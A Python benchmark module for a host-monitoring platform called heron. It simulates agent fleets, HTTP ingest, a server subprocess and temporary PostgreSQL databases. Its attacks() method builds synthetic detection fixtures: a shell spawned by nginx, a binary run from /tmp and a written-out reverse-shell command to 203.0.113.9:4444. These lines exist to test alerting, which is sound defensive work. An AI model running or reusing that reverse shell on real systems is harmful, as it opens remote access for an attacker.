"""Simulated agents for the platform benchmarks: a realistic fleet workload, enrolment and ingest over
HTTP exactly as the real agent ships (zstd + msgpack through heron's own encoder, docs/wire.md), a
``heron server`` subprocess, and throwaway PostgreSQL databases. Imported by module name (the
benchmarks run as ``python bench/NAME.py``).

The workload: a few hundred process clusters (same exe, user and command-line shape) spread over the
hosts; each cluster has a fixed parent, a few children, endpoints and files, so the behaviour graph
saturates the way a real fleet's does. None of the ordinary events matches a default rule (checked
by ``bench/ingest.py --check-rules``); ``Host.trigger`` makes one that does.
"""

from __future__ import annotations

import http.client
import json
import os
import random
import signal
import socket
import subprocess
import sys
import time
import urllib.parse
import uuid
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import zstandard

from heron.schema.events import (
    Ancestor,
    DnsQuery,
    Event,
    FileChange,
    FileMeta,
    NetFlow,
    Process,
    ProcessExec,
    ProcessExit,
    ProcessRef,
    encode_events,
    process_key,
)

ROOT = Path(__file__).resolve().parents[1]
PG_ADMIN_URL = "postgresql://root@/postgres?host=/var/run/postgresql"
SYSTEMD = "/usr/lib/systemd/systemd"
TRIGGER_RULE = "Shell spawned by a server process"

# (exe, user, uid, argv shape, parent exe). {i} is the cluster's instance number, {r} varies per exec.
PROGRAMS: list[tuple[str, str, int, list[str], str]] = [
    ("/usr/bin/python3.11", "app", 1001, ["python3", "/srv/app{i}/worker.py", "--queue", "jobs{i}"], SYSTEMD),
    ("/usr/bin/python3.11", "app", 1001, ["python3", "-m", "gunicorn", "app{i}.wsgi", "-w", "4"], SYSTEMD),
    ("/usr/bin/node", "node", 1002, ["node", "/srv/web{i}/server.js", "--port", "30{i:02d}"], SYSTEMD),
    ("/usr/lib/jvm/java-17/bin/java", "svc", 1003, ["java", "-Xmx2g", "-jar", "/opt/svc{i}/svc.jar"], SYSTEMD),
    ("/usr/bin/curl", "app", 1001, ["curl", "-fsS", "https://api{i}.example.com/v1/items?page={r}"],
     "/usr/bin/python3.11"),
    ("/usr/bin/git", "deploy", 1004, ["git", "-C", "/srv/repo{i}", "fetch", "origin"], "/usr/bin/bash"),
    ("/usr/bin/bash", "deploy", 1004, ["bash", "/usr/local/lib/deploy/step{i}.sh"], "/usr/sbin/cron"),
    ("/usr/bin/gzip", "root", 0, ["gzip", "-9", "/var/backups/db{i}-{r}.sql"], "/usr/bin/bash"),
    ("/usr/bin/rsync", "backup", 1005, ["rsync", "-a", "/srv/data{i}/", "backup{i}.internal:/b/"], "/usr/bin/bash"),
    ("/usr/sbin/nginx", "www-data", 33, ["nginx: worker process"], "/usr/sbin/nginx"),
    ("/usr/bin/redis-cli", "app", 1001, ["redis-cli", "-h", "cache{i}", "GET", "k{r}"], "/usr/bin/python3.11"),
    ("/usr/bin/psql", "postgres", 114, ["psql", "-d", "db{i}", "-c", "VACUUM ANALYZE t{r}"], "/usr/sbin/cron"),
    ("/usr/bin/tar", "backup", 1005, ["tar", "czf", "/var/backups/etc-{r}.tgz", "/srv/conf{i}"], "/usr/bin/bash"),
    ("/usr/bin/ls", "deploy", 1004, ["ls", "-la", "/srv/app{i}"], "/usr/bin/bash"),
    ("/usr/bin/sed", "deploy", 1004, ["sed", "-i", "s/v{r}/v{i}/", "/srv/app{i}/VERSION"], "/usr/bin/bash"),
    ("/usr/bin/du", "root", 0, ["du", "-sh", "/srv/data{i}"], "/usr/sbin/cron"),
]
PARENTS = sorted({p[4] for p in PROGRAMS})
TLDS = ["example.com", "example.net", "internal", "svc.cluster.local"]


@dataclass(frozen=True)
class Cluster:
    exe: str
    user: str
    uid: int
    argv: list[str]
    parent_exe: str
    endpoints: list[tuple[str, str, int]]  # (domain, address, port)
    files: list[str]


def make_clusters(n: int, seed: int = 1) -> list[Cluster]:
    """``n`` process clusters: each program in several instances with their own endpoints and files."""
    rng = random.Random(seed)
    out = []
    for c in range(n):
        exe, user, uid, argv, parent = PROGRAMS[c % len(PROGRAMS)]
        i = c // len(PROGRAMS)
        endpoints = []
        for e in range(rng.randint(1, 4)):
            domain = f"svc{c}-{e}.{rng.choice(TLDS)}"
            addr = f"10.{c % 250}.{e}.{rng.randint(2, 250)}" if rng.random() < 0.6 else \
                f"93.184.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
            endpoints.append((domain, addr, rng.choice([443, 5432, 6379, 8080, 9092])))
        if exe.endswith("/bash"):  # shells do not talk to the network (rule "Network connection from a shell")
            endpoints = []
        files = [f"/var/lib/app{c}/state-{f}.db" for f in range(rng.randint(1, 3))] + [f"/var/log/app{c}.log"]
        out.append(Cluster(exe, user, uid, [a.replace("{i}", str(i)).replace("{i:02d}", f"{i % 100:02d}")
                                            for a in argv], parent, endpoints, files))
    return out


@dataclass
class Host:
    """One simulated host: its identity, its share of the clusters, live processes and a pid counter."""

    index: int
    clusters: list[Cluster]
    rng: random.Random
    boot_id: str = field(default_factory=lambda: uuid.uuid4().hex)
    next_pid: int = 1000
    live: list[tuple[int, str, str, Cluster]] = field(default_factory=list)  # (pid, key, exe, cluster)

    @property
    def hostname(self) -> str:
        return f"bench-{self.index:03d}"

    def facts(self) -> dict[str, str]:
        return {"hostname": self.hostname, "machine_id": uuid.uuid5(uuid.NAMESPACE_DNS, self.hostname).hex,
                "boot_id": self.boot_id, "kernel": "6.1.0-bench", "distro": "debian:12", "arch": "x86_64"}

    def _pid(self) -> tuple[int, str]:
        self.next_pid += 1
        if self.next_pid > 4_000_000:
            self.next_pid = 1000
        return self.next_pid, process_key(self.boot_id, self.next_pid, self.next_pid * 7)

    def _parent(self, cluster: Cluster) -> list[Ancestor]:
        # A stable parent per (host, parent exe): the parent is long-lived, like a real server or cron.
        ppid = 200 + PARENTS.index(cluster.parent_exe)
        chain = [Ancestor(ppid, process_key(self.boot_id, ppid, ppid * 7), cluster.parent_exe)]
        if cluster.parent_exe != SYSTEMD:
            chain.append(Ancestor(1, process_key(self.boot_id, 1, 7), SYSTEMD))
        return chain

    def _exec(self, ts: int) -> ProcessExec:
        cluster = self.rng.choice(self.clusters)
        pid, key = self._pid()
        r = str(self.rng.randint(1, 50))
        argv = [a.replace("{r}", r) for a in cluster.argv]
        chain = self._parent(cluster)
        self.live.append((pid, key, cluster.exe, cluster))
        if len(self.live) > 400:
            del self.live[:100]
        return ProcessExec(ts=ts, source="process.ebpf", process=Process(
            key=key, pid=pid, ppid=chain[0].pid, start_ticks=pid * 7, exe=cluster.exe, comm=cluster.exe[-15:],
            argv=argv, cwd="/", uid=cluster.uid, gid=cluster.uid, euid=cluster.uid, egid=cluster.uid,
            user=cluster.user, cgroup="/system.slice/app.service", parent_key=chain[0].key, ancestors=chain))

    def _ref(self) -> tuple[ProcessRef, Cluster]:
        if not self.live:
            self._exec(time.time_ns())
        pid, key, exe, cluster = self.rng.choice(self.live)
        return ProcessRef(key=key, pid=pid, exe=exe, comm=exe.rpartition("/")[2][:15], uid=cluster.uid,
                          user=cluster.user, parent_exe=cluster.parent_exe), cluster

    def event(self, ts: int) -> Event:
        """One event of the ordinary mix: 35% exec, 25% exit, 20% flow, 10% DNS, 10% file change."""
        x = self.rng.random()
        if x < 0.35 or not self.live:
            return self._exec(ts)
        if x < 0.60:
            pid, key, exe, _ = self.live.pop(self.rng.randrange(len(self.live)))
            return ProcessExit(ts=ts, source="process.ebpf", key=key, pid=pid, exe=exe, exit_code=0,
                               runtime_ns=self.rng.randint(10**6, 10**10))
        ref, cluster = self._ref()
        if x < 0.90 and cluster.endpoints:
            return self._network(ts, x, ref, cluster)
        path = self.rng.choice(cluster.files)
        size = self.rng.randint(1, 10**6)
        return FileChange(ts=ts, source="file.fanotify", path=path, action="modify", actions=["modify"],
                          process=ref, rule="bench", new=FileMeta(mode=0o100640, uid=cluster.uid, gid=cluster.uid,
                                                                  size=size, mtime_ns=ts))

    def _network(self, ts: int, x: float, ref: ProcessRef, cluster: Cluster) -> Event:
        domain, addr, port = self.rng.choice(cluster.endpoints)
        if x < 0.80:
            return NetFlow(ts=ts, source="network.ebpf", process=ref, direction="out", protocol="tcp",
                           local_addr="10.1.0.5", remote_addr=addr, remote_port=port, domain=domain,
                           connections=self.rng.randint(1, 20), bytes_out=self.rng.randint(100, 10**6),
                           bytes_in=self.rng.randint(100, 10**7), first_ts=ts - 10**10, last_ts=ts)
        return DnsQuery(ts=ts, source="network.ebpf", process=ref, query=domain, qtype="A",
                        answers=[addr], ttl=300, server="127.0.0.53:53")

    def events(self, n: int, start_ts: int, end_ts: int) -> list[Event]:
        """``n`` events with times spread evenly over [start_ts, end_ts)."""
        step = max(0, (end_ts - start_ts) // max(n, 1))
        return [self.event(start_ts + k * step) for k in range(n)]

    def trigger(self, ts: int) -> tuple[ProcessExec, int]:
        """An interactive shell started by a fresh nginx worker (rule TRIGGER_RULE); returns (event, pid)."""
        npid, nkey = self._pid()
        pid, key = self._pid()
        chain = [Ancestor(npid, nkey, "/usr/sbin/nginx"), Ancestor(1, process_key(self.boot_id, 1, 7), SYSTEMD)]
        return ProcessExec(ts=ts, source="process.ebpf", process=Process(
            key=key, pid=pid, ppid=npid, start_ticks=pid * 7, exe="/usr/bin/bash", comm="bash", argv=["bash", "-i"],
            cwd="/var/www", uid=33, gid=33, euid=33, egid=33, user="www-data", parent_key=nkey,
            ancestors=chain)), pid

    def attacks(self, ts: int) -> list[Event]:
        """A few events that default rules flag (alerts with a process tree for the console): a shell
        from nginx, a program run from /tmp, a reverse shell, a cron file written by hand."""
        shell, _ = self.trigger(ts)
        out: list[Event] = [shell]
        sp = shell.process
        children = [("/tmp/.x/kworker", ["/tmp/.x/kworker", "-o", "pool"]),
                    ("/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"])]
        for k, (exe, argv) in enumerate(children):
            pid, key = self._pid()
            chain = [Ancestor(sp.pid, sp.key, sp.exe), *sp.ancestors]
            out.append(ProcessExec(ts=ts + (k + 1) * 10**6, source="process.ebpf", process=Process(
                key=key, pid=pid, ppid=chain[0].pid, start_ticks=pid * 7, exe=exe, comm=exe.rpartition("/")[2][:15],
                argv=argv, uid=33, gid=33, euid=33, egid=33, user="www-data", parent_key=chain[0].key,
                ancestors=chain)))
        ref = ProcessRef(key=sp.key, pid=sp.pid, exe="/usr/bin/bash", comm="bash", uid=33, user="www-data",
                         parent_exe="/usr/sbin/nginx")
        out.append(FileChange(ts=ts + 5 * 10**6, source="file.fanotify", path="/etc/cron.d/update", action="create",
                              actions=["create", "modify"], process=ref, rule="cron",
                              new=FileMeta(mode=0o100644, uid=0, gid=0, size=64, mtime_ns=ts)))
        return out


def fleet(n_hosts: int, n_clusters: int, seed: int = 1) -> list[Host]:
    """``n_hosts`` hosts; each runs a third of the clusters (overlapping, so the fleet shares edges)."""
    clusters = make_clusters(n_clusters, seed)
    hosts = []
    for h in range(n_hosts):
        rng = random.Random(seed * 1000 + h)
        share = rng.sample(clusters, max(1, len(clusters) // 3))
        hosts.append(Host(h, share, rng))
    return hosts


# -- HTTP ------------------------------------------------------------------------------------------

class HttpError(Exception):
    def __init__(self, status: int, body: bytes) -> None:
        super().__init__(f"HTTP {status}: {body[:300]!r}")
        self.status = status


class Client:
    """One keep-alive HTTP connection (one per simulated agent: the real agent has one too)."""

    def __init__(self, url: str, timeout: float = 60.0) -> None:
        parts = urllib.parse.urlsplit(url)
        self.host, self.port = parts.hostname or "127.0.0.1", parts.port or 80
        self.timeout = timeout
        self._conn: http.client.HTTPConnection | None = None

    def request(self, method: str, path: str, body: bytes | None = None,
                headers: dict[str, str] | None = None) -> tuple[int, bytes]:
        for attempt in range(2):  # one reconnect: the server may close an idle keep-alive connection
            if self._conn is None:
                self._conn = http.client.HTTPConnection(self.host, self.port, timeout=self.timeout)
            try:
                self._conn.request(method, path, body=body, headers=headers or {})
                resp = self._conn.getresponse()
                return resp.status, resp.read()
            except (ConnectionError, http.client.HTTPException):
                self.close()
                if attempt:
                    raise
        raise AssertionError("unreachable")

    def json(self, method: str, path: str, token: str, payload: object | None = None) -> Any:
        headers = {"Authorization": f"Bearer {token}", "Accept": "application/json"}
        body = None
        if payload is not None:
            body = json.dumps(payload).encode()
            headers["Content-Type"] = "application/json"
        status, data = self.request(method, path, body, headers)
        if status >= 300:
            raise HttpError(status, data)
        return json.loads(data) if data else None

    def close(self) -> None:
        if self._conn is not None:
            self._conn.close()
            self._conn = None


@dataclass
class SimAgent:
    """An enrolled agent: posts encoded batches like the agent's shipper (retries 429/503 with backoff)."""

    host: Host
    agent_id: str
    token: str
    client: Client
    batch_seq: int = 0
    retries: int = 0
    _zstd: zstandard.ZstdCompressor = field(default_factory=lambda: zstandard.ZstdCompressor(level=3))

    @classmethod
    def enroll(cls, url: str, enrollment_token: str, host: Host) -> SimAgent:
        client = Client(url)
        body = client.json("POST", "/api/v1/enroll", enrollment_token,
                           {"name": host.hostname, "agent_version": "0.1.0-bench", "host": host.facts()})
        return cls(host, body["agent_id"], body["token"], client)

    def encode(self, events: list[Event]) -> bytes:
        """The agent's batch body (heron.agent.sinks.encode.BatchEncoder does the same)."""
        data: bytes = self._zstd.compress(encode_events(events))
        return data

    def post(self, body: bytes) -> int:
        """POST one batch; returns the events accepted. Retries what the real agent retries."""
        self.batch_seq += 1
        headers = {"Authorization": f"Bearer {self.token}", "X-Heron-Agent": self.agent_id,
                   "X-Heron-Batch": f"bench-{self.batch_seq}:0", "Content-Type": "application/x-msgpack",
                   "Content-Encoding": "zstd"}
        delay = 0.05
        while True:
            status, data = self.client.request("POST", "/api/v1/ingest", body, headers)
            if status == 200:
                accepted: int = json.loads(data)["accepted"]
                return accepted
            if status in (429, 500, 502, 503, 504):
                self.retries += 1
                time.sleep(delay)
                delay = min(delay * 2, 2.0)
                continue
            raise HttpError(status, data)


# -- the server ------------------------------------------------------------------------------------

def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port: int = s.getsockname()[1]
        return port


class ServerProc:
    """``heron server`` as a subprocess (its own process, so its CPU can be read from /proc)."""

    def __init__(self, data_dir: Path, database: str | None = None, port: int | None = None,
                 log: Path | None = None, timeout: float = 60.0) -> None:
        self.data_dir = data_dir
        self.port = port or free_port()
        self.url = f"http://127.0.0.1:{self.port}"
        cmd = [sys.executable, "-m", "heron.cli.main", "server", "--listen", f"127.0.0.1:{self.port}",
               "--data-dir", str(data_dir)]
        if database:
            cmd += ["--database", database]
        self.log_path = log or data_dir.with_name(data_dir.name + ".server.log")
        self.log_path.parent.mkdir(parents=True, exist_ok=True)
        self._log = open(self.log_path, "ab")  # noqa: SIM115 (lives as long as the process)
        self.proc = subprocess.Popen(cmd, cwd=ROOT, stdout=self._log, stderr=subprocess.STDOUT,
                                     env={**os.environ, "PYTHONPATH": str(ROOT / "src")})
        self._wait_ready(timeout)

    def _wait_ready(self, timeout: float) -> None:
        deadline = time.monotonic() + timeout
        client = Client(self.url, timeout=2)
        while time.monotonic() < deadline:
            if self.proc.poll() is not None:
                raise RuntimeError(f"heron server exited ({self.proc.returncode}); log: {self.log_path}\n"
                                   + self.log_path.read_text(errors="replace")[-3000:])
            try:
                status, _ = client.request("GET", "/api/v1/health")
                if status == 200 and (self.data_dir / "enrollment.token").exists():
                    client.close()
                    return
            except OSError:
                pass
            time.sleep(0.1)
        self.stop()
        raise RuntimeError(f"heron server did not answer within {timeout} s; log: {self.log_path}")

    def token(self, name: str) -> str:
        return (self.data_dir / f"{name}.token").read_text().strip()

    @property
    def pid(self) -> int:
        return self.proc.pid

    def stop(self, timeout: float = 30.0) -> None:
        if self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(timeout)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()
        self._log.close()


# -- PostgreSQL --------------------------------------------------------------------------------------

def pg_url_for(admin_url: str, dbname: str) -> str:
    parts = urllib.parse.urlsplit(admin_url)
    return urllib.parse.urlunsplit((parts.scheme, parts.netloc, "/" + dbname, parts.query, parts.fragment))


def create_pg_database(admin_url: str = PG_ADMIN_URL, prefix: str = "heron_bench") -> str:
    """A new empty database ``PREFIX_<random>``; returns its URL."""
    import psycopg

    name = f"{prefix}_{uuid.uuid4().hex[:10]}"
    with psycopg.connect(admin_url, autocommit=True) as conn:
        conn.execute(f'CREATE DATABASE "{name}"')  # name is ours: letters, digits, underscore
    return pg_url_for(admin_url, name)


def drop_pg_database(url: str, admin_url: str = PG_ADMIN_URL) -> None:
    import psycopg

    name = urllib.parse.urlsplit(url).path.lstrip("/")
    assert name.replace("_", "").isalnum(), name
    with psycopg.connect(admin_url, autocommit=True) as conn:
        conn.execute(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')


def postgres_cpu() -> float:
    """utime + stime of every process named postgres (the server's backends), seconds."""
    from benchutil import proc_cpu

    total = 0.0
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/comm") as f:
                if f.read().strip() != "postgres":
                    continue
            total += proc_cpu(int(entry))
        except OSError:  # gone meanwhile
            continue
    return total


def percentile(values: list[float], q: float) -> float:
    """Nearest-rank percentile (q in 0..100) of a non-empty list."""
    ordered = sorted(values)
    rank = max(1, min(len(ordered), round(q / 100 * len(ordered) + 0.5)))
    return ordered[rank - 1]
